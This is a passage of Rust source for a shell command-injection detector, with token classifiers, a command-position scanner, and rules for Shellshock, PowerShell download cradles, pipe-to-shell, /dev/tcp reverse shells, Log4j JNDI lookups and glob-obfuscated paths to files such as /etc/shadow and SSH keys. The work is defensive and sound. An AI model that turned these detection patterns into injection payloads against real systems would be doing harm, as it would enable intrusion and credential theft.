    b"so", b"as", b"i", b"you", b"we", b"they", b"he", b"she", b"my", b"your", b"our", b"has",
    b"have", b"had", b"will", b"can", b"just", b"also", b"more", b"than", b"if",
];

const ROOTS: &[&[u8]] = &[
    b"etc", b"bin", b"sbin", b"usr", b"var", b"tmp", b"dev", b"proc", b"sys", b"home", b"root",
    b"opt", b"boot", b"lib", b"srv", b"mnt", b"run",
];

fn is_ipv4(t: &[u8]) -> bool {
    let mut dots = 0;
    let mut digits = 0;
    for &c in t {
        if c.is_ascii_digit() {
            digits += 1;
            if digits > 3 {
                return false;
            }
        } else if c == b'.' && digits > 0 {
            dots += 1;
            digits = 0;
        } else if c == b':' || c == b'/' {
            break;
        } else {
            return false;
        }
    }
    dots == 3 && digits > 0
}

fn is_hostname(t: &[u8]) -> bool {
    // label(.label)+ with an alphabetic TLD, optional :port or /path
    let end = t
        .iter()
        .position(|&c| c == b':' || c == b'/')
        .unwrap_or(t.len());
    let h = &t[..end];
    if h.len() < 4 || !h.contains(&b'.') {
        return false;
    }
    if !h
        .iter()
        .all(|&c| c.is_ascii_alphanumeric() || c == b'.' || c == b'-')
    {
        return false;
    }
    let tld = h.rsplit(|&c| c == b'.').next().unwrap_or(b"");
    tld.len() >= 2 && tld.iter().all(|c| c.is_ascii_alphabetic()) && !h.starts_with(b".")
}

fn classify_arg(t: &[u8], a: &mut Args) {
    a.count += 1;
    if STOPWORDS.contains(&t) {
        a.prose = true;
    }
    a.last_number = !t.is_empty() && t.iter().all(|c| c.is_ascii_digit());
    if t.is_empty() {
        return;
    }
    let c0 = t[0];
    if c0 == b'-' && t.len() >= 2 {
        if t[1].is_ascii_alphabetic() {
            a.flag_any = true;
            if t.len() <= 4
                && t[1..]
                    .iter()
                    .all(|c| c.is_ascii_alphanumeric() || *c == b':')
            {
                a.flag_short = true;
            }
        } else if t[1] == b'-' && t.len() > 2 && t[2].is_ascii_alphabetic() {
            a.flag_any = true;
            a.flag_short = true;
        } else if t[1].is_ascii_digit() {
            a.numflag = true;
        }
    }
    if c0 == b'+' && t.len() >= 2 && t[1..].iter().all(|c| b"rwxstugoa".contains(c)) {
        a.flag_short = true;
        a.flag_any = true;
    }
    // paths (also `if=/etc/passwd`)
    let p = match t.iter().position(|&c| c == b'=') {
        Some(eq) if t.get(eq + 1) == Some(&b'/') => &t[eq + 1..],
        _ => t,
    };
    if p.first() == Some(&b'/') && p.len() > 1 && p[1] != b'/' {
        a.any_path = true;
        let seg_end = p[1..]
            .iter()
            .position(|&c| c == b'/')
            .map(|x| x + 1)
            .unwrap_or(p.len());
        let seg = &p[1..seg_end];
        if ROOTS.contains(&seg) || seg.contains(&b'?') || seg.contains(&b'*') || seg.contains(&b'[')
        {
            a.root_path = true;
        }
    }
    if p.starts_with(b"~/") || p.starts_with(b"./") || p.starts_with(b"../") {
        a.root_path = true;
        a.any_path = true;
    }
    if t.windows(3).any(|w| w == b"://") {
        a.url = true;
    }
    if is_ipv4(t) {
        a.ip = true;
    } else if is_hostname(t) {
        a.host = true;
    }
    if t.len() >= 2 && t.len() <= 5 && t.iter().all(|c| c.is_ascii_digit()) {
        a.port = true;
    }
    // windows switches, drive paths, %VAR%
    if c0 == b'/' && t.len() <= 3 && t[1..].iter().all(|c| c.is_ascii_alphabetic() || *c == b'?') {
        a.win = true;
    }
    if t.len() >= 2 && c0.is_ascii_alphabetic() && t[1] == b':' {
        a.win = true;
    }
    if t.starts_with(b"hklm") || t.starts_with(b"hkcu") || t.starts_with(b"hkey_") {
        a.win = true;
    }
    if c0 == b'%' && t.len() > 2 && t[1..].contains(&b'%') {
        a.win = true;
    }
    if t.len() >= 4
        && t[0].is_ascii_digit()
        && (t[1] == b':' || (t[1].is_ascii_digit() && t[2] == b':'))
    {
        a.time = true;
    }
    // file names with script/config extensions, sensitive names
    if let Some(dot) = t.iter().rposition(|&c| c == b'.') {
        let ext = &t[dot + 1..];
        if dot > 0
            && matches!(
                ext,
                b"sh"
                    | b"py"
                    | b"pl"
                    | b"php"
                    | b"rb"
                    | b"exe"
                    | b"ps1"
                    | b"bat"
                    | b"txt"
                    | b"gz"
                    | b"log"
                    | b"conf"
                    | b"ini"
                    | b"yml"
                    | b"reg"
                    | b"jpg"
                    | b"png"
                    | b"js"
                    | b"jsp"
                    | b"asp"
                    | b"aspx"
                    | b"zst"
                    | b"xz"
                    | b"tar"
                    | b"zip"
            )
        {
            a.file_ext = true;
            if matches!(
                ext,
                b"sh" | b"py" | b"pl" | b"php" | b"rb" | b"ps1" | b"bat" | b"exe"
            ) {
                a.script = true;
            }
            if t[0] == b'/' {
                a.path_ext = true;
            }
        }
    }
    if t.len() > 2 && t[0] == b'!' && lookup(&t[1..]).is_some() {
        a.bang_cmd = true;
    }
    if matches!(t, b"passwd" | b"shadow" | b"/etc/passwd" | b"/etc/shadow")
        || t.ends_with(b"/passwd")
        || t.ends_with(b"/shadow")
    {
        a.sensitive = true;
    }
}

/// Result of looking at one command position.
struct Hit {
    rule: &'static str,
    start: usize,
    end: usize,
}

impl<'a> Scanner<'a> {
    fn token_end(&self, mut i: usize) -> usize {
        while i < self.n.len() {
            let c = self.n[i];
            if TOKEN_STOP[c as usize] && (c != b'$' || self.n.get(i + 1) == Some(&b'(')) {
                break;
            }
            i += 1;
        }
        i
    }

    fn skip_spaces(&self, mut i: usize) -> usize {
        while i < self.n.len() && is_space(self.n[i]) {
            i += 1;
        }
        i
    }

    /// Whether the `>`/`<` at `i` is followed by something a shell would redirect to:
    /// a path, a file name with an extension, `&1`, a here-string.
    fn redirect_target(&self, i: usize) -> bool {
        let prev = if i > 0 { self.n[i - 1] } else { b' ' };
        if matches!(prev, b'-' | b'=' | b'<' | b'>') {
            return false;
        }
        let mut j = i;
        while j < self.n.len() && matches!(self.n[j], b'>' | b'<' | b'&') && j - i < 3 {
            j += 1;
        }
        if j - i == 3 && self.n[i] == b'<' {
            return true; // here-string
        }
        if j > i + 1 && self.n[j - 1] == b'&' {
            return self.n.get(j).is_some_and(|c| c.is_ascii_digit());
        }
        let j = self.skip_spaces(j);
        let e = self.token_end(j);
        let t = &self.n[j..e];
        if t.is_empty() {
            return false;
        }
        if matches!(t[0], b'/' | b'~' | b'.' | b'$') {
            return true;
        }
        let mut a = Args::default();
        classify_arg(t, &mut a);
        a.file_ext
    }

    /// Scans arguments after a command word ending at `i`, up to a separator.
    fn scan_args(&self, mut i: usize) -> (Args, usize) {
        let mut a = Args::default();
        let mut k = 0;
        loop {
            i = self.skip_spaces(i);
            if i >= self.n.len() {
                break;
            }
            let c = self.n[i];
            if c == b'>' || c == b'<' {
                a.redirect = self.redirect_target(i);
                break;
            }
            if is_sep(c) || c == b'#' {
                break;
            }
            let e = self.token_end(i);
            if k == 0 {
                a.first = (i, e);
            }
            if k < 8 {
                classify_arg(&self.n[i..e], &mut a);
            }
            k += 1;
            i = e;
            if k > 64 {
                break;
            }
        }
        (a, i)
    }

    /// Whether the separator before the word at `s` is `;`, `||`, `&&`, `|` glued to the
    /// preceding text, or a newline (not a spaced single `&`/`|`).
    fn sep_kind_before(&self, s: usize) -> bool {
        let mut k = s;
        while k > 0 && is_space(self.n[k - 1]) {
            k -= 1;
        }
        if k == 0 {
            return false;
        }
        match self.n[k - 1] {
            b';' | b'\n' | b'\r' => true,
            c @ (b'&' | b'|') => {
                (k >= 2 && self.n[k - 2] == c)
                    || (k >= 2 && !is_space(self.n[k - 2]) && !self.n[k - 2].is_ascii_alphabetic())
                    || k == 1
            }
            _ => false,
        }
    }

    /// `P&ID`: a letter right before a glued `&`/`|` separator reads like an abbreviation.
    fn letter_before_sep(&self, s: usize) -> bool {
        s >= 2 && matches!(self.n[s - 1], b'&' | b'|') && self.n[s - 2].is_ascii_alphabetic()
    }

    /// Character right after the word (skipping spaces is NOT done): end, separator...
    fn followed_by_end_or_sep(&self, i: usize) -> bool {
        i >= self.n.len()
            || matches!(
                self.n[i],
                b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'#' | b')'
            )
    }

    /// Evaluates the word at `[s, e)` in command position `ctx`.
    /// Returns (hit, known-command, english) so the caller can track chains.
    fn eval(
        &self,
        s: usize,
        e: usize,
        ctx: Ctx,
        glued: bool,
        depth: u8,
    ) -> (Option<Hit>, Option<u16>) {
        let t = &self.n[s..e];
        let hit = |rule| {
            Some(Hit {
                rule,
                start: s,
                end: e,
            })
        };
        if t.is_empty() {
            return (None, None);
        }
        // path-qualified binaries
        if t[0] == b'/' {
            for p in [
                &b"/bin/"[..],
                b"/usr/bin/",
                b"/sbin/",
                b"/usr/sbin/",
                b"/usr/local/bin/",
                b"/usr/local/sbin/",
            ] {
                if t.len() > p.len() && t.starts_with(p) {
                    let rest = &t[p.len()..];
                    if rest[0].is_ascii_alphabetic()
                        && rest
                            .iter()
                            .all(|c| c.is_ascii_alphanumeric() || b"-_.?*[]".contains(c))
                    {
                        return (hit(R_UNIX), Some(0));
                    }
                }
            }
            return (None, None);
        }
        if t.len() > 4 && t.starts_with(b"bin/") {
            if let Some(f) = lookup(&t[4..]) {
                return (hit(if f & WIN != 0 { R_WIN } else { R_UNIX }), Some(f));
            }
            return (None, None);
        }
        // windows drive path to an executable: c:windowssystem32cmd.exe (backslashes dropped)
        let mut word = t;
        if t.len() > 3 && t[0].is_ascii_alphabetic() && t[1] == b':' {
            let mut from = 2;
            for marker in [&b"system32"[..], b"syswow64", b"windows"] {
                if let Some(p) = find_sub(t, marker) {
                    from = from.max(p + marker.len());
                }
            }
            word = &t[from..];
            if let Some(f) = lookup(word) {
                if f & WIN != 0 || word.ends_with(b".exe") {
                    return (hit(R_WIN), Some(f));
                }
            }
            return (None, None);
        }
        let (first_eq, first_slash, plain) = scan_word(t);
        // assignment prefix: `a=curl` -> value is a weak command position; then the next word
        if let Some(eq) = first_eq {
            if eq > 0 && t[..eq].iter().all(|&c| is_name(c)) && eq + 1 < t.len() && depth < 4 {
                let (h, _) = self.eval(s + eq + 1, e, Ctx::Weak, false, depth + 1);
                if h.is_some() {
                    return (h, None);
                }
                return (None, None);
            }
            // `?args=env --version`: the text after the last `=` is a weak command position
            if let Some(last) = t.iter().rposition(|&c| c == b'=') {
                if last + 1 < t.len() && depth < 4 {
                    return self.eval(s + last + 1, e, Ctx::Weak, false, depth + 1);
                }
            }
            return (None, None);
        }
        // Windows `cmd/c`, `bcdboot/r`: switch glued to the command
        if let Some(sl) = first_slash {
            let (w, sw) = (&t[..sl], &t[sl + 1..]);
            if sl > 0
                && !sw.is_empty()
                && sw.len() <= 2
                && sw.iter().all(|c| c.is_ascii_alphabetic())
                && lookup(w).is_some_and(|f| f & WIN != 0)
            {
                return (hit(R_WIN), lookup(w));
            }
            return (None, None);
        }
        // (`word` is `t` here: the drive-path case returned above)
        if !plain {
            return (None, None);
        }
        let Some(flags) = lookup(word) else {
            return (None, None);
        };
        if ctx != Ctx::Strong && self.n.get(e) == Some(&b'(') {
            return (None, None);
        }
        let rule = if flags & WIN != 0 { R_WIN } else { R_UNIX };
        // wrappers: look at the next word
        if flags & WRAP != 0 && depth < 4 {
            let ns = self.skip_spaces(e);
            if ns < self.n.len() && !is_sep(self.n[ns]) {
                let ne = self.token_end(ns);
                if lookup(&self.n[ns..ne]).is_some() {
                    let (h, k) = self.eval(ns, ne, ctx.max(Ctx::Medium), true, depth + 1);
                    return (h.map(|h| Hit { start: s, ..h }), k);
                }
            }
            if ctx == Ctx::Strong {
                return (hit(rule), Some(flags));
            }
            if flags & EN != 0
                && !matches!(word, b"env" | b"nice" | b"timeout" | b"exec" | b"watch")
            {
                // `time` alone, `time warner`
                return (None, None);
            }
        }
        if ctx == Ctx::Strong {
            return (hit(rule), Some(flags));
        }
        let (a, _) = self.scan_args(e);
        let en = flags & EN != 0;
        let win = flags & WIN != 0;
        let alone = self.followed_by_end_or_sep(e);
        let netish = flags & (NET | INTERP) != 0 || !en;
        let technical_common = (netish && (a.url || a.ip))
            || a.redirect
            || a.sensitive
            || (flags & NET != 0 && (a.host || (a.port && a.count >= 2)))
            || (flags & NUMFLAG != 0 && a.numflag)
            || (flags & TIMEARG != 0 && a.time && ctx == Ctx::Medium && glued)
            || (win && a.win)
            || a.bang_cmd
            || a.script;
        match ctx {
            Ctx::Medium => {
                if !en && (glued || alone || !a.prose) {
                    return (hit(rule), Some(flags));
                }
                if glued && alone && flags & VERYEN == 0 && !self.letter_before_sep(s) {
                    return (hit(rule), Some(flags));
                }
                if technical_common || a.flag_any || a.any_path || a.file_ext {
                    return (hit(rule), Some(flags));
                }
                if flags & NUMARG != 0 && a.count == 1 && a.last_number {
                    return (hit(rule), Some(flags));
                }
                // `; id` at the very end of the value
                let end_alone = e >= self.n.len() || matches!(self.n[e], b'#' | b')');
                if end_alone && flags & VERYEN == 0 && self.sep_kind_before(s) {
                    return (hit(rule), Some(flags));
                }
                if a.count > 0 && is_subcommand(word, &self.n[a.first.0..a.first.1]) {
                    return (hit(rule), Some(flags));
                }
                (None, Some(flags))
            }
            Ctx::Weak => {
                let whole_alone = alone && e >= self.n.len();
                if flags & ALONE0 != 0 && (whole_alone || a.count > 0 || !en) {
                    return (hit(rule), Some(flags));
                }
                if flags & ANY0 != 0 && a.count > 0 {
                    return (hit(rule), Some(flags));
                }
                if !en && e < self.n.len() && matches!(self.n[e], b';' | b'|' | b'&' | b'`') {
                    return (hit(rule), Some(flags));
                }
                if technical_common || a.flag_short || a.root_path || a.path_ext {
                    return (hit(rule), Some(flags));
                }
                if !en && (a.flag_any || a.any_path) {
                    return (hit(rule), Some(flags));
                }
                (None, Some(flags))
            }
            Ctx::Strong => (hit(rule), Some(flags)),
        }
    }

    fn run(&self) -> Option<Hit> {
        let n = self.n;
        let mut i = 0;
        let mut ctx: Option<Ctx> = Some(Ctx::Weak);
        let mut glued = true;
        let mut tight = true;
        let mut chain = 0usize;
        let mut chain_nonen = false;
        let mut chain_tight = true;
        while i < n.len() {
            if ctx.is_none() {
                // Outside command position only bytes that open one and `key=value`
                // tokens matter; everything else would be stepped over one token at a
                // time (`glued` is reset by whatever opens the next position).
                match self.stops.find(&n[i..]) {
                    Some(p) => i += p,
                    None => break,
                }
            }
            let c = n[i];
            if is_space(c) {
                glued = false;
                i += 1;
                continue;
            }
            let prev_space = i == 0 || is_space(n[i - 1]);
            let next = n.get(i + 1).copied().unwrap_or(b' ');
            match c {
                b';' | b'\n' | b'\r' => {
                    ctx = Some(Ctx::Medium);
                    tight = c == b';' && !prev_space && !is_space(next);
                    glued = true;
                    i += 1;
                    continue;
                }
                b'|' | b'&' => {
                    let double = next == c;
                    let step = if double { 2 } else { 1 };
                    let after = n.get(i + step).copied().unwrap_or(b' ');
                    // a spaced single `&` / `|` reads like prose (`Tom & Jerry`)
                    let spaced = !double && prev_space && is_space(after);
                    ctx = Some(Ctx::Medium);
                    tight = !prev_space && !is_space(after);
                    glued = !spaced;
                    if spaced {
                        chain_tight = false;
                    }
                    i += step;
                    continue;
                }
                b'`' => {
                    ctx = Some(if prev_space && i > 0 {
                        Ctx::Medium
                    } else {
                        Ctx::Strong
                    });
                    glued = true;
                    i += 1;
                    continue;
                }
                b'$' if next == b'(' => {
                    ctx = Some(Ctx::Strong);
                    glued = true;
                    i += 2;
                    continue;
                }
                b'<' | b'>' if next == b'(' => {
                    ctx = Some(Ctx::Strong);
                    glued = true;
                    i += 2;
                    continue;
                }
                b'<' | b'>' => {
                    // redirection target is a file, not a command
                    ctx = None;
                    i += 1;
                    continue;
                }
                b'(' | b'{' | b'!' | b'@' | b')' | b'}' => {
                    i += 1;
                    continue;
                }
                b'$' if next == b'{' => {
                    i += 1;
                    continue;
                }
                _ => {}
            }
            let e = self.token_end(i);
            if e == i {
                i += 1;
                continue;
            }
            match ctx {
                Some(cx) => {
                    let (h, known) = self.eval(i, e, cx, glued, 0);
                    if h.is_some() {
                        return h;
                    }
                    if let Some(f) = known {
                        if f & VERYEN == 0 {
                            chain += 1;
                            if f & EN == 0 {
                                chain_nonen = true;
                            }
                            if chain > 1 && !tight && cx != Ctx::Weak {
                                chain_tight = false;
                            }
                            if chain >= 2 && (chain_nonen || chain_tight) {
                                return Some(Hit {
                                    rule: R_UNIX,
                                    start: i,
                                    end: e,
                                });
                            }
                        }
                    }
                    // assignment prefix keeps command position for the next word
                    let t = &n[i..e];
                    let is_assign = find_byte(t, b'=')
                        .is_some_and(|eq| eq > 0 && t[..eq].iter().all(|&c| is_name(c)));
                    if !is_assign {
                        ctx = None;
                    }
                }
                None => {
                    // `key=value` inside an argument (URL query): weak command position
                    let t = &n[i..e];
                    if let Some(eq) = t.iter().rposition(|&c| c == b'=') {
                        if eq + 1 < t.len() {
                            let (h, _) = self.eval(i + eq + 1, e, Ctx::Weak, false, 0);
                            if h.is_some() {
                                return h;
                            }
                        }
                    }
                }
            }
            glued = false;
            i = e;
        }
        None
    }
}

/// First `c` in `t`: an inline loop for short tokens, `memchr` (SIMD) for long ones.
#[inline]
fn find_byte(t: &[u8], c: u8) -> Option<usize> {
    if t.len() < 16 {
        t.iter().position(|&x| x == c)
    } else {
        memchr::memchr(c, t)
    }
}

/// For [`Scanner::eval`]: the first `=`; when there is none, the first `/`; when there is
/// neither, whether every byte is a [`WORD_BYTE`] (otherwise the later fields are unused).
fn scan_word(t: &[u8]) -> (Option<usize>, Option<usize>, bool) {
    if t.len() < 16 {
        let mut slash = None;
        let mut plain = true;
        for (k, &c) in t.iter().enumerate() {
            if c == b'=' {
                return (Some(k), None, false);
            }
            if c == b'/' && slash.is_none() {
                slash = Some(k);
            }
            plain &= WORD_BYTE[c as usize];
        }
        return (None, slash, plain);
    }
    if let Some(eq) = memchr::memchr(b'=', t) {
        return (Some(eq), None, false);
    }
    if let Some(sl) = memchr::memchr(b'/', t) {
        return (None, Some(sl), false);
    }
    (None, None, t.iter().all(|&c| WORD_BYTE[c as usize]))
}

/// Command + first-argument pairs that only make sense as a command line.
fn is_subcommand(cmd: &[u8], arg: &[u8]) -> bool {
    matches!(
        (cmd, arg),
        (b"ps", b"aux" | b"ef" | b"faux")
            | (
                b"net",
                b"user" | b"localgroup" | b"share" | b"use" | b"view" | b"group" | b"accounts"
            )
            | (
                b"reg",
                b"query" | b"add" | b"delete" | b"export" | b"import" | b"save"
            )
            | (
                b"sc",
                b"query" | b"create" | b"config" | b"start" | b"stop" | b"delete"
            )
            | (b"ip", b"a" | b"addr" | b"route" | b"link" | b"neigh")
    )
}

fn find_sub(h: &[u8], needle: &[u8]) -> Option<usize> {
    memchr::memmem::find(h, needle)
}

// ---------------------------------------------------------------------------------------
// Structural rules
// ---------------------------------------------------------------------------------------

static RE_SHELLSHOCK: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"^\s*\(\s*\)\s*\{|\(\s*\)\s*\{\s*:?\s*;\s*\}\s*;").expect("valid regex")
});

static RE_BATCH: Lazy<Regex> = Lazy::new(|| {
    Regex::new(concat!(
        r#"(?i)(?:^|[;&|(\n])\s*@?(?:"#,
        r#"for(?:\s*/[a-z](?:\s+(?:"[^"]*"|\\"[^"]*\\"|[^%\s"/][^\s]*))?)*\s+%%?[^\s]+\s+in\s*\(.*\)\s*do\b"#,
        r#"|if(?:\s*/i)?(?:\s+not)?\s+(?:exist\s+\S|defined\s+\S|errorlevel\s+\d|cmdextversion\s+\d|(?:"[^"]*"|\([^()\s]*\)|[^\s(]\S*)\s*==\s*(?:"[^"]*"|\S+)(?:\s+[^\s{]|\s*$)|\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s))"#
    ))
    .expect("valid regex")
});

static RE_ALIAS: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"(?:^|[;&|\n`(])\s*alias(?:\s+[-+]\S*)*\s+[^\s=;&|]+=").expect("valid regex")
});

static RE_POWERSHELL: Lazy<BRegex> = Lazy::new(|| {
    BRegex::new(concat!(
        r"\b(?:invoke-(?:expression|webrequest|restmethod|command|wmimethod|item|shellcode|mimikatz|obfuscation|psremoting)\b",
        r"|new-object\s+(?:-typename\s+)?(?:system\.)?(?:net\.webclient|net\.sockets|io\.|diagnostics\.process|management\.automation)",
        r"|start-process\b|start-bitstransfer\b|set-mppreference\b|add-mppreference\b|set-executionpolicy\b",
        r"|get-wmiobject\b|frombase64string\s*\(|download(?:string|file|data)\s*\(|-encodedcommand\b",
        r"|\biex\s*[($]|powershell(?:\.exe)?\s+(?:-\w+\s+)*-(?:e|en|enc|encodedcommand|ec|nop|noprofile|w|windowstyle|ep|exec|executionpolicy|c|command|noni|noninteractive|file)\b)"
    ))
    .expect("valid regex")
});

static F_PARENS: Lazy<memchr::memmem::Finder<'static>> =
    Lazy::new(|| memchr::memmem::Finder::new(b"()"));
static F_SEMIDOT: Lazy<memchr::memmem::Finder<'static>> =
    Lazy::new(|| memchr::memmem::Finder::new(b";."));
static F_ALIAS: Lazy<memchr::memmem::Finder<'static>> =
    Lazy::new(|| memchr::memmem::Finder::new(b"alias"));
static F_DEV: Lazy<memchr::memmem::Finder<'static>> =
    Lazy::new(|| memchr::memmem::Finder::new(b"/dev/"));

static RE_MAIL: Lazy<Regex> = Lazy::new(|| {
    Regex::new(concat!(
        r"(?im)\n[ \t]*(?:",
        r"(?:mail\s+from|rcpt\s+to)\s*:\s*<",
        r"|(?:ehlo|helo)\s+[\w.\-\[\]:]+[ \t]*\r?$",
        r"|vrfy\s+\S+[ \t]*\r?$",
        r"|[a-z]+\d+\s+(?:append|authenticate|status|uid|login|select|examine|fetch|store|copy|search|lsub|create|delete|rename|subscribe|capability|logout|starttls|expunge)\b",
        r"|(?:retr|dele|list|uidl)\s+\d+[ \t]*\r?$",
        r"|top\s+\d+\s+\d+[ \t]*\r?$",
        r"|apop\s+\S+\s+[0-9a-f]{32}",
        r"|auth\s+\S+\s+[a-z0-9+/]{8,}={0,2}[ \t]*\r?$",
        r")"
    ))
    .expect("valid regex")
});

static RE_SQLITE: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r#"(?i);\s*(?:\\[nr]|\s)*\.\s*[\\"']*\s*(?:shell|system|sh|databases|tables|dump|import|output|once|load|schema|open|backup|restore)\b"#)
        .expect("valid regex")
});

static RE_PIPE_SHELL: Lazy<BRegex> = Lazy::new(|| {
    BRegex::new(r"\|\s*(?:sh|bash|zsh|ksh|dash|csh|tcsh|python[23]?|perl|php|ruby|node)(?:\s*$|\s*[;&|#`)]|\s+-)")
        .expect("valid regex")
});

static RE_EXPANSION: Lazy<Regex> = Lazy::new(|| {
    Regex::new(concat!(
        r"(?i)\$\(\(|\$\[[\d\s+\-*/%()$a-z]*\]",
        r"|\$\{[!#]?[a-z_][a-z0-9_]*(?:#|%|:[-=?+]|\^\^|,,|/)",
        r"|\$\{\s*`",
        r"|(?:^|[\s;&|])![-]\d+(?:$|[\s;&|!])",
    ))
    .expect("valid regex")
});

static RE_TILDE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^\s*~(?:[+-]\d*|\d+)\s*$").expect("valid regex"));

/// `/dev/tcp/` reverse shells and similar device paths.
static RE_DEVTCP: Lazy<BRegex> =
    Lazy::new(|| BRegex::new(r"/dev/(?:tcp|udp)/[\w.\-]+/\d").expect("valid regex"));

/// Builds this detector's tables now (command table, regexes and finders), so that the first request to need
/// them does not spend its time budget on it.
pub(crate) fn warm_up() {
    Lazy::force(&COMMAND_TABLE);
    Lazy::force(&RE_SHELLSHOCK);
    Lazy::force(&RE_BATCH);
    Lazy::force(&RE_ALIAS);
    Lazy::force(&RE_POWERSHELL);
    Lazy::force(&F_PARENS);
    Lazy::force(&F_SEMIDOT);
    Lazy::force(&F_ALIAS);
    Lazy::force(&F_DEV);
    Lazy::force(&RE_MAIL);
    Lazy::force(&RE_SQLITE);
    Lazy::force(&RE_PIPE_SHELL);
    Lazy::force(&RE_EXPANSION);
    Lazy::force(&RE_TILDE);
    Lazy::force(&RE_DEVTCP);
}

/// Log4j lookups: resolves `${...}` innermost-first with a stack, bounded depth.
fn log4shell(b: &[u8]) -> Option<(usize, usize)> {
    let first = memchr::memmem::find(b, b"${")?;
    let mut out: Vec<u8> = Vec::with_capacity(b.len() - first);
    let mut map: Vec<usize> = Vec::with_capacity(b.len() - first);
    let mut stack: Vec<usize> = Vec::new();
    let mut i = first;
    while i < b.len() {
        let c = b[i];
        if c == b'$' && b.get(i + 1) == Some(&b'{') && stack.len() < 16 {
            stack.push(out.len());
            out.push(b'$');
            out.push(b'{');
            map.push(i);
            map.push(i);
            i += 2;
            continue;
        }
        if c == b'}' {
            if let Some(st) = stack.pop() {
                let content: Vec<u8> = out[st + 2..].to_vec();
                let at = map[st];
                let lower = content.to_ascii_lowercase();
                let repl: Option<Vec<u8>> = if let Some(p) = find_sub(&content, b":-") {
                    Some(content[p + 2..].to_vec())
                } else if lower.starts_with(b"lower:") || lower.starts_with(b"upper:") {
                    Some(content[6..].to_vec())
                } else {
                    None
                };
                if let Some(r) = repl {
                    out.truncate(st);
                    map.truncate(st);
                    for x in r {
                        out.push(x);
                        map.push(at);
                    }
                    i += 1;
                    continue;
                }
                if lower.starts_with(b"jndi:") {
                    return Some((at, i + 1));
                }
            }
        }
        out.push(c);
        map.push(i);
        i += 1;
        if out.len() > 8192 {
            break;
        }
    }
    // unterminated or resolved text
    let lower = out.to_ascii_lowercase();
    find_sub(&lower, b"${jndi:").map(|p| (map[p], b.len().min(map[p] + 64)))
}

/// Known system files and binary directories used by the glob rule.
const GLOB_FILES: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/hosts",
    "/etc/issue",
    "/etc/sudoers",
    "/etc/crontab",
    "/etc/hostname",
    "/etc/resolv.conf",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/proc/version",
    "/root/.bash_history",
    "/root/.ssh/id_rsa",
    "/etc",
    "/bin",
    "/usr/bin",
    "/tmp",
];
const BIN_DIRS: &[&str] = &["/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin"];

/// Shell glob match (`?`, `*`, `[...]`, `[!...]`, ranges); `*` and `?` do not match `/`.
/// Iterative with one backtrack point: O(len(p) * len(s)), both bounded by the caller.
fn glob_match(p: &[u8], s: &[u8]) -> bool {
    let (mut pi, mut si) = (0usize, 0usize);
    let mut star: Option<(usize, usize)> = None;
    while si < s.len() {
        if pi < p.len() {
            match p[pi] {
                b'*' => {
                    star = Some((pi, si));
                    pi += 1;
                    continue;
                }
                b'?' if s[si] != b'/' => {
                    pi += 1;
                    si += 1;
                    continue;
                }
                b'[' => {
                    if let Some((ok, np)) = class_match(p, pi, s[si]) {
                        if ok {
                            pi = np;
                            si += 1;
                            continue;
                        }
                    } else if s[si] == b'[' {
                        pi += 1;
                        si += 1;
                        continue;
                    }
                }
                c if c == s[si] && c != b'?' => {
                    pi += 1;
                    si += 1;
                    continue;
                }
                _ => {}
            }
        }
        match star {
            Some((sp, ss)) if s[ss] != b'/' => {
                star = Some((sp, ss + 1));
                pi = sp + 1;
                si = ss + 1;
            }
            _ => return false,
        }
    }
    while pi < p.len() && p[pi] == b'*' {
        pi += 1;
    }
    pi == p.len()
}

/// Matches a bracket expression starting at `p[pi] == '['`; returns (matched, next index).
fn class_match(p: &[u8], pi: usize, c: u8) -> Option<(bool, usize)> {
    let mut j = pi + 1;
    let neg = j < p.len() && (p[j] == b'!' || p[j] == b'^');
    if neg {
        j += 1;
    }
    let start = j;
    let mut found = false;
    while j < p.len() && (p[j] != b']' || j == start) {
        if j + 2 < p.len() && p[j + 1] == b'-' && p[j + 2] != b']' {
            if p[j] <= c && c <= p[j + 2] {
                found = true;
            }
            j += 3;
        } else {
            if p[j] == c || (p[j] == b'?' && c != b'/') {
                found = true;
            }
            j += 1;
        }
    }
    if j >= p.len() {
        return None;
    }
    Some((found != neg, j + 1))
}

/// Glob-obfuscated path token (starting with `/`) in the normalised text.
fn glob_rule(n: &[u8]) -> Option<(usize, usize)> {
    let mut i = 0;
    let mut budget = 8; // glob tokens examined per input
    while i < n.len() {
        // only a `/` can start a token: jump to the next one
        match memchr::memchr(b'/', &n[i..]) {
            Some(p) => i += p,
            None => break,
        }
        if n[i] == b'/'
            && (i == 0
                || !n[i - 1].is_ascii_alphanumeric()
                    && n[i - 1] != b'/'
                    && n[i - 1] != b'.'
                    && n[i - 1] != b':')
        {
            let s = i;
            let mut e = i;
            while e < n.len()
                && !is_space(n[e])
                && !matches!(
                    n[e],
                    b';' | b'|' | b'&' | b'\n' | b'`' | b',' | b'}' | b')' | b'<' | b'>'
                )
            {
                e += 1;
            }
            let t = &n[s..e];
            if t.len() <= 128
                && t.iter().any(|c| matches!(c, b'?' | b'*' | b'['))
                && !t.contains(&b'=')
            {
                if budget == 0 {
                    return None;
                }
                budget -= 1;
                if glob_token(t) {
                    return Some((s, e));
                }
            }
            i = e.max(i + 1);
            continue;
        }
        i += 1;
    }
    None
}

fn glob_token(t: &[u8]) -> bool {
    // a bracket expression holding a slash (`/[e//]tc`) only makes sense to a shell
    let mut k = 0;
    while let Some(p) = t[k..].iter().position(|&c| c == b'[') {
        let o = k + p;
        if let Some(q) = t[o..].iter().position(|&c| c == b']') {
            let inner = &t[o + 1..o + q];
            if inner.contains(&b'/') && inner.len() <= 16 && !inner.contains(&b':') {
                return true;
            }
            k = o + q;
        } else {
            break;
        }
    }
    // a bare `/*` or `/?` matches too much to mean anything
    if t.iter().any(|c| c.is_ascii_alphabetic()) || t.len() >= 6 {
        for f in GLOB_FILES {
            if glob_match(t, f.as_bytes())
                || (t.ends_with(b"/") && glob_match(&t[..t.len() - 1], f.as_bytes()))
            {
                return true;
            }
        }
    }
    // dir/base split at the last '/' outside brackets
    let mut depth = 0;
    let mut last = None;
    for (j, &c) in t.iter().enumerate() {
        match c {
            b'[' => depth += 1,
